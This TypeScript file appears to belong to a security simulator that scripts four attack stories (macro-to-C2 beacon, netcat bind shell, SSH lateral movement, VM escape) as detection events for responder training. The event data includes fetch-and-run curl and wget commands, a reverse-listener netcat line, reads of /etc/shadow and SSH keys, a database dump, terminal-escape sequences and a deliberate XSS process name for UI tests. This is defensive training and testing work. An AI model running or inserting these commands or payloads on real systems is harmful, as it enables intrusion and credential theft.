// The scripted attacks of the sim, each a multi-step story taken from the domain documents (seeds/README.md): a
// document that spawns a shell and beacons to C2, an unexpected bind-shell listener, lateral movement with a stolen
// SSH key, and a VM-escape attempt against the hypervisor (FSTEC UBI.010). Process trees, command lines,
// connections and ATT&CK ids are what a responder would see on a real host, so training on the sim carries over.
//
// Hostile strings, on purpose (end-to-end tests look for them; a UI must show them as text):
//   - 'bind-shell-listener' names its listener process exactly `<img src=x onerror=alert(1)>` (process.name, and in
//     process.commandLine and file.path). It is the FIRST story of every run, whatever the seed.
//   - 'lateral-ssh' carries terminal escapes (OSC window title, clear screen) in a sudo command line.
import type { EventDraft } from './sim-background.ts';
import type { Rng, Role, SimFleet, SimVm } from './sim-fleet.ts';

export const HOSTILE_PROCESS_NAME = '<img src=x onerror=alert(1)>';
export const TERMINAL_ESCAPES = '\u001b]0;root@localhost\u0007\u001b[2J\u001b[3J\u001b[H';

/** One event of a story, and how long (in the sim's step units) the attacker waits before the next. */
export interface StoryStep {
  draft: EventDraft;
  /** Multiples of the base step spacing until the next step; 1 if absent. */
  wait?: number;
}

export interface Story {
  /** Carried in each event's `scenario` field. */
  name: string;
  build(ctx: StoryContext): StoryStep[];
}

export interface StoryContext {
  agentId: string;
  rng: Rng;
  fleet: SimFleet;
}

// Addresses from RFC 5737's documentation ranges: realistic on screen, never someone's real server.
const C2 = { ip: '203.0.113.66', host: 'static.cdn-sync.example' };
const DROPPER = '198.51.100.45';
const OPERATOR = '192.0.2.77';

function victim(ctx: StoryContext, preferred: readonly Role[], avoid?: SimVm): SimVm {
  const pool = ctx.fleet.byRole(preferred).filter((v) => v !== avoid);
  if (pool.length > 0) return ctx.rng.pick(pool);
  const rest = ctx.fleet.vms.filter((v) => v !== avoid && v.role !== 'build');
  return ctx.rng.pick(rest.length > 0 ? rest : ctx.fleet.vms);
}

function on(ctx: StoryContext, vm: SimVm, story: string, sensorId: string, kind: EventDraft['sensor']['kind']): Pick<EventDraft, 'agentId' | 'vmId' | 'vmName' | 'sensor' | 'scenario'> {
  return { agentId: ctx.agentId, vmId: vm.vm.id, vmName: vm.vm.name, sensor: { id: sensorId, kind }, scenario: story };
}

/** (a) A document opened in a micro-VM runs a macro, which fetches a payload that beacons to C2. */
const documentBeacon: Story = {
  name: 'document-c2-beacon',
  build(ctx) {
    const vm = victim(ctx, ['desk', 'mail', 'files']);
    const at = (sensorId: string, kind: EventDraft['sensor']['kind']) => on(ctx, vm, this.name, sensorId, kind);
    const { rng } = ctx;
    const doc = `/home/jdoe/Downloads/Invoice_${rng.int(1000, 9999)}_overdue.odt`;
    const soffice = rng.int(3000, 9000);
    const shell = soffice + rng.int(1, 40);
    const curl = shell + 1;
    const implant = curl + rng.int(2, 20);
    const implantPath = '/home/jdoe/.cache/dconf/dconf-service';
    const steps: StoryStep[] = [
      { draft: { ...at('fim', 'guest'), severity: 'low', verdict: 'suspicious', category: 'file', title: 'Mail attachment saved: macro-enabled document', description: 'Thunderbird saved an attachment whose document contains a Basic macro set to run on open.', process: { pid: rng.int(1500, 2900), name: 'thunderbird', commandLine: '/usr/lib/thunderbird/thunderbird', user: 'jdoe' }, file: { path: doc, operation: 'create', sha256: rng.hex(64), size: rng.int(40_000, 90_000) }, mitre: { techniqueId: 'T1566.001', technique: 'Phishing: Spearphishing Attachment', tactic: 'initial-access' } } },
      { draft: { ...at('auditd', 'guest'), severity: 'medium', verdict: 'suspicious', category: 'process', title: 'Document with an auto-run macro opened', process: { pid: soffice, ppid: rng.int(1000, 1400), name: 'soffice.bin', commandLine: `/usr/lib/libreoffice/program/soffice.bin --writer ${doc}`, executable: '/usr/lib/libreoffice/program/soffice.bin', user: 'jdoe', parentName: 'nautilus' }, file: { path: doc, operation: 'read' }, mitre: { techniqueId: 'T1204.002', technique: 'User Execution: Malicious File', tactic: 'execution' } } },
      { draft: { ...at('auditd', 'guest'), severity: 'high', verdict: 'malicious', category: 'process', title: 'Office process spawned a shell', description: 'soffice.bin started /bin/sh: documents do not start shells. The command line downloads and runs a script.', process: { pid: shell, ppid: soffice, name: 'sh', commandLine: `sh -c "curl -fsSL http://${DROPPER}/s/u.sh | sh"`, executable: '/usr/bin/dash', user: 'jdoe', parentName: 'soffice.bin' }, mitre: { techniqueId: 'T1059.004', technique: 'Command and Scripting Interpreter: Unix Shell', tactic: 'execution' } } },
      { draft: { ...at('flow', 'network'), severity: 'high', verdict: 'malicious', category: 'network', title: `Payload downloaded from ${DROPPER}`, process: { pid: curl, ppid: shell, name: 'curl', commandLine: `curl -fsSL http://${DROPPER}/s/u.sh`, executable: '/usr/bin/curl', user: 'jdoe', parentName: 'sh' }, connection: { protocol: 'tcp', direction: 'outbound', localAddress: vm.ip, localPort: rng.int(40000, 60000), remoteAddress: DROPPER, remotePort: 80, state: 'ESTABLISHED', bytesOut: 212, bytesIn: rng.int(300_000, 900_000) }, mitre: { techniqueId: 'T1105', technique: 'Ingress Tool Transfer', tactic: 'command-and-control' } } },
      { draft: { ...at('fim', 'guest'), severity: 'high', verdict: 'malicious', category: 'file', title: 'Executable dropped under a system-looking name', description: `The script wrote an ELF binary to ${implantPath} and made it executable; the real dconf-service lives in /usr/libexec.`, process: { pid: shell + 2, ppid: shell, name: 'chmod', commandLine: `chmod +x ${implantPath}`, user: 'jdoe', parentName: 'sh' }, file: { path: implantPath, operation: 'chmod', sha256: rng.hex(64), size: rng.int(300_000, 900_000) }, mitre: { techniqueId: 'T1036.005', technique: 'Masquerading: Match Legitimate Name or Location', tactic: 'defense-evasion' } } },
    ];
    for (let i = 1; i <= 4; i++) {
      steps.push({
        wait: 3,
        draft: { ...at(i < 4 ? 'flow' : 'suricata', i < 4 ? 'network' : 'ids'), severity: i < 4 ? 'high' : 'critical', verdict: 'malicious', category: 'network', title: i < 4 ? `Outbound TLS beacon to ${C2.host} (${i} of a fixed interval)` : `C2 beacon confirmed: ${i} connections to ${C2.ip}:443 every 60 s, jitter under 5%`, description: `SNI ${C2.host}, self-signed certificate, JA3 of a known implant family; the process has no window and its parent was the shell spawned by soffice.bin.`, process: { pid: implant, ppid: 1, name: 'dconf-service', commandLine: implantPath, executable: implantPath, user: 'jdoe', parentName: 'systemd' }, connection: { protocol: 'tcp', direction: 'outbound', localAddress: vm.ip, localPort: rng.int(40000, 60000), remoteAddress: C2.ip, remotePort: 443, state: 'ESTABLISHED', bytesOut: rng.int(300, 700), bytesIn: rng.int(90, 400) }, mitre: { techniqueId: 'T1071.001', technique: 'Application Layer Protocol: Web Protocols', tactic: 'command-and-control' } },
      });
    }
    return steps;
  },
};

/** (b) An exploited web worker drops a renamed netcat and opens a bind shell on tcp/4444. */
const bindShell: Story = {
  name: 'bind-shell-listener',
  build(ctx) {
    const vm = victim(ctx, ['web', 'api']);
    const at = (sensorId: string, kind: EventDraft['sensor']['kind']) => on(ctx, vm, this.name, sensorId, kind);
    const { rng } = ctx;
    const worker = rng.int(1000, 3000);
    const shell = rng.int(20000, 30000);
    const listener = shell + rng.int(3, 30);
    const dropped = `/tmp/${HOSTILE_PROCESS_NAME}`;
    return [
      { draft: { ...at('auditd', 'guest'), severity: 'high', verdict: 'malicious', category: 'process', title: 'Web worker spawned a shell', description: 'php-fpm started /bin/sh after a POST to /wp-content/plugins/formcraft/upload.php: a web request ran a command.', process: { pid: shell, ppid: worker, name: 'sh', commandLine: `sh -c 'wget -q -O "${dropped}" http://${DROPPER}/nc.static && chmod +x "${dropped}"'`, executable: '/usr/bin/dash', user: 'www-data', parentName: 'php-fpm8.2' }, mitre: { techniqueId: 'T1190', technique: 'Exploit Public-Facing Application', tactic: 'initial-access' } } },
      { draft: { ...at('fim', 'guest'), severity: 'medium', verdict: 'suspicious', category: 'file', title: 'Executable written to /tmp with a markup-like name', description: 'The file name is chosen by the attacker and may try to inject markup into consoles and dashboards.', process: { pid: shell + 1, ppid: shell, name: 'wget', commandLine: `wget -q -O ${dropped} http://${DROPPER}/nc.static`, user: 'www-data', parentName: 'sh' }, file: { path: dropped, operation: 'create', sha256: rng.hex(64), size: 770_536 }, mitre: { techniqueId: 'T1105', technique: 'Ingress Tool Transfer', tactic: 'command-and-control' } } },
      { draft: { ...at('auditd', 'guest'), severity: 'high', verdict: 'malicious', category: 'process', title: 'Renamed netcat started as a listener', process: { pid: listener, ppid: shell, name: HOSTILE_PROCESS_NAME, commandLine: `${dropped} -l -p 4444 -e /bin/sh`, executable: dropped, user: 'www-data', parentName: 'sh' }, mitre: { techniqueId: 'T1059', technique: 'Command and Scripting Interpreter', tactic: 'execution' } } },
      { draft: { ...at('netstat', 'guest'), severity: 'high', verdict: 'malicious', category: 'network', title: 'Unexpected listener on tcp/4444', description: 'Not in this VM\'s baseline (nginx 80/443, sshd 22). Equivalent of `netstat -lp` during Evaluation.', process: { pid: listener, ppid: shell, name: HOSTILE_PROCESS_NAME, user: 'www-data' }, connection: { protocol: 'tcp', direction: 'listen', localAddress: '0.0.0.0', localPort: 4444, state: 'LISTEN' }, mitre: { techniqueId: 'T1571', technique: 'Non-Standard Port', tactic: 'command-and-control' } } },
      { draft: { ...at('flow', 'network'), severity: 'critical', verdict: 'malicious', category: 'network', title: `Inbound connection to the bind shell from ${OPERATOR}`, process: { pid: listener, ppid: shell, name: HOSTILE_PROCESS_NAME, user: 'www-data' }, connection: { protocol: 'tcp', direction: 'inbound', localAddress: vm.ip, localPort: 4444, remoteAddress: OPERATOR, remotePort: rng.int(40000, 60000), state: 'ESTABLISHED', bytesIn: 1_204, bytesOut: 48_211 }, mitre: { techniqueId: 'T1571', technique: 'Non-Standard Port', tactic: 'command-and-control' } } },
      { draft: { ...at('auditd', 'guest'), severity: 'critical', verdict: 'malicious', category: 'process', title: 'Shell over the listener read /etc/shadow', process: { pid: listener + 1, ppid: listener, name: 'sh', commandLine: '/bin/sh -c "id; uname -a; cat /etc/passwd /etc/shadow"', executable: '/usr/bin/dash', user: 'www-data', parentName: HOSTILE_PROCESS_NAME }, file: { path: '/etc/shadow', operation: 'read' }, mitre: { techniqueId: 'T1003.008', technique: 'OS Credential Dumping: /etc/passwd and /etc/shadow', tactic: 'credential-access' } } },
    ];
  },
};

/** (c) From a foothold, a stolen deploy key, an internal scan, and an SSH hop to the database VM. */
const lateralSsh: Story = {
  name: 'lateral-ssh',
  build(ctx) {
    const src = victim(ctx, ['web', 'api', 'desk']);
    const dst = ctx.fleet.vms.length > 1 ? victim(ctx, ['db', 'cache', 'files'], src) : undefined;
    const from = (sensorId: string, kind: EventDraft['sensor']['kind']) => on(ctx, src, this.name, sensorId, kind);
    const { rng } = ctx;
    const bash = rng.int(20000, 40000);
    const target = dst?.ip ?? `${src.net}.12`;
    const steps: StoryStep[] = [
      { draft: { ...from('fim', 'guest'), severity: 'medium', verdict: 'suspicious', category: 'file', title: 'Private SSH key read by an interactive shell', process: { pid: bash + 1, ppid: bash, name: 'cp', commandLine: 'cp /home/deploy/.ssh/id_ed25519 /dev/shm/.k', user: 'www-data', parentName: 'bash' }, file: { path: '/home/deploy/.ssh/id_ed25519', operation: 'read', size: 411 }, mitre: { techniqueId: 'T1552.004', technique: 'Unsecured Credentials: Private Keys', tactic: 'credential-access' } } },
      { draft: { ...from('auditd', 'guest'), severity: 'high', verdict: 'malicious', category: 'process', title: 'Network scanner run inside the VM', process: { pid: bash + 7, ppid: bash, name: 'nmap', commandLine: `nmap -sS -Pn -p 22,5432,6379,445 --open ${src.net}.0/24`, executable: '/usr/bin/nmap', user: 'root', parentName: 'bash' }, mitre: { techniqueId: 'T1046', technique: 'Network Service Discovery', tactic: 'discovery' } } },
      { draft: { ...from('suricata', 'ids'), severity: 'high', verdict: 'malicious', category: 'network', title: `Internal port sweep of ${src.net}.0/24`, description: '254 hosts probed on 22, 445, 5432 and 6379 within 3 s (SYN scan).', connection: { protocol: 'tcp', direction: 'internal', localAddress: src.ip, remoteAddress: `${src.net}.0/24`, state: 'SYN_SENT', bytesOut: 60_960 }, mitre: { techniqueId: 'T1046', technique: 'Network Service Discovery', tactic: 'discovery' } } },
      { draft: { ...from('flow', 'network'), severity: 'high', verdict: 'malicious', category: 'network', title: `SSH from ${src.vm.name} to ${target} with a copied key`, process: { pid: bash + 9, ppid: bash, name: 'ssh', commandLine: `ssh -i /dev/shm/.k -o StrictHostKeyChecking=no deploy@${target}`, executable: '/usr/bin/ssh', user: 'www-data', parentName: 'bash' }, connection: { protocol: 'tcp', direction: 'internal', localAddress: src.ip, localPort: rng.int(40000, 60000), remoteAddress: target, remotePort: 22, state: 'ESTABLISHED' }, mitre: { techniqueId: 'T1021.004', technique: 'Remote Services: SSH', tactic: 'lateral-movement' } } },
    ];
    if (dst) {
      const to = (sensorId: string, kind: EventDraft['sensor']['kind']) => on(ctx, dst, this.name, sensorId, kind);
      const sshd = rng.int(5000, 9000);
      steps.push(
        { draft: { ...to('sshd-log', 'log'), severity: 'high', verdict: 'suspicious', category: 'auth', title: `SSH login by deploy from ${src.vm.name}`, description: `Accepted publickey for deploy from ${src.ip}: this key has only ever logged in from the CI segment before.`, process: { pid: sshd, ppid: rng.int(400, 900), name: 'sshd', commandLine: 'sshd: deploy [priv]', executable: '/usr/sbin/sshd', user: 'root' }, connection: { protocol: 'tcp', direction: 'internal', localAddress: dst.ip, localPort: 22, remoteAddress: src.ip, remotePort: rng.int(40000, 60000), state: 'ESTABLISHED' }, mitre: { techniqueId: 'T1021.004', technique: 'Remote Services: SSH', tactic: 'lateral-movement' } } },
        { draft: { ...to('sudo-log', 'log'), severity: 'critical', verdict: 'malicious', category: 'auth', title: 'Root shell via sudo over the new SSH session', description: 'The command line carries terminal escape sequences (window title, clear screen) meant to hide what ran from an operator\'s terminal.', process: { pid: sshd + 4, ppid: sshd + 2, name: 'sudo', commandLine: `sudo -n /bin/bash -c "printf '${TERMINAL_ESCAPES}'; exec bash -i"`, executable: '/usr/bin/sudo', user: 'deploy', parentName: 'bash' }, mitre: { techniqueId: 'T1548.003', technique: 'Abuse Elevation Control Mechanism: Sudo and Sudo Caching', tactic: 'privilege-escalation' } } },
        { draft: { ...to('fim', 'guest'), severity: 'critical', verdict: 'malicious', category: 'file', title: 'Database dumped to shared memory', process: { pid: sshd + 9, ppid: sshd + 4, name: 'pg_dumpall', commandLine: 'pg_dumpall -U postgres | gzip -1 > /dev/shm/.d.gz', user: 'root', parentName: 'bash' }, file: { path: '/dev/shm/.d.gz', operation: 'create', size: rng.int(200_000_000, 900_000_000) }, mitre: { techniqueId: 'T1005', technique: 'Data from Local System', tactic: 'collection' } } },
      );
    }
    return steps;
  },
};

/** (d) UBI.010: a guest probes the hypervisor's device emulation to break out, and tries to slip a hypervisor underneath. */
const vmEscape: Story = {
  name: 'vm-escape-ubi010',
  build(ctx) {
    const vm = victim(ctx, ['api', 'web', 'cache', 'desk']);
    const inGuest = (sensorId: string, kind: EventDraft['sensor']['kind']) => on(ctx, vm, this.name, sensorId, kind);
    const { rng } = ctx;
    const py = rng.int(30000, 50000);
    const qemuPid = rng.int(100_000, 400_000);
    const escape = { techniqueId: 'T1611', technique: 'Escape to Host', tactic: 'privilege-escalation' };
    return [
      { draft: { ...inGuest('auditd', 'guest'), severity: 'high', verdict: 'malicious', category: 'process', title: 'Unsigned kernel module loaded in the guest', process: { pid: py - 3, ppid: py - 10, name: 'insmod', commandLine: 'insmod /dev/shm/vq.ko', executable: '/usr/sbin/insmod', user: 'root', parentName: 'bash' }, file: { path: '/dev/shm/vq.ko', operation: 'execute', sha256: rng.hex(64), size: 38_112 }, mitre: { techniqueId: 'T1547.006', technique: 'Boot or Logon Autostart Execution: Kernel Modules and Extensions', tactic: 'persistence' } } },
      { draft: { ...inGuest('auditd', 'guest'), severity: 'critical', verdict: 'malicious', category: 'escape', title: 'Raw I/O port access from the guest (/dev/port)', description: 'Writes to port 0x510 (fw_cfg) and 0xcf8 (PCI config): a user process talking to emulated hardware directly, the first move of most QEMU escapes.', process: { pid: py, ppid: py - 10, name: 'python3', commandLine: 'python3 /dev/shm/.p/fuzz.py --target virtio-net --iters 200000', executable: '/usr/bin/python3.11', user: 'root', parentName: 'bash' }, file: { path: '/dev/port', operation: 'write' }, mitre: escape } },
      { draft: { ...inGuest('qemu-virtio', 'hypervisor'), severity: 'critical', verdict: 'malicious', category: 'escape', title: 'Malformed virtio descriptor chain from the guest', description: `virtio-net TX queue 0: descriptor 17 has len 0xffffffff and its next field points back to itself (a loop); QEMU (pid ${qemuPid}) marked the device broken.`, mitre: escape } },
      { draft: { ...inGuest('qemu-virtio', 'hypervisor'), severity: 'critical', verdict: 'malicious', category: 'escape', title: 'Device fuzzing pattern against virtio-blk', description: '18,432 MMIO writes to the virtio-blk configuration space in 2 s with random widths and offsets: automated fuzzing of the device model.', mitre: escape }, wait: 2 },
      { draft: { ...inGuest('kvm', 'hypervisor'), severity: 'critical', verdict: 'malicious', category: 'escape', title: 'Guest tried to enter VMX operation (nested hypervisor)', description: 'VMXON from the guest kernel with nested virtualisation off: an attempt to run a hypervisor of its own beneath the guest OS (UBI.010).', mitre: escape } },
      { draft: { ...inGuest('seccomp', 'hypervisor'), severity: 'critical', verdict: 'malicious', category: 'escape', title: `QEMU process of ${vm.vm.name} tried to execve /bin/sh (blocked)`, description: `The seccomp sandbox of QEMU pid ${qemuPid} killed an execve("/bin/sh"): code ran inside the hypervisor process. Treat the host as suspect.`, process: { pid: qemuPid, ppid: 1, name: 'qemu-system-x86_64', commandLine: `qemu-system-x86_64 -M microvm -name ${vm.vm.name} -sandbox on,spawn=deny`, executable: '/usr/bin/qemu-system-x86_64', user: 'libvirt-qemu' }, mitre: escape } },
    ];
  },
};

/** Played in this order, round after round; the first is fixed so that tests find the hostile name early. */
export const STORIES: readonly Story[] = [bindShell, documentBeacon, lateralSsh, vmEscape];
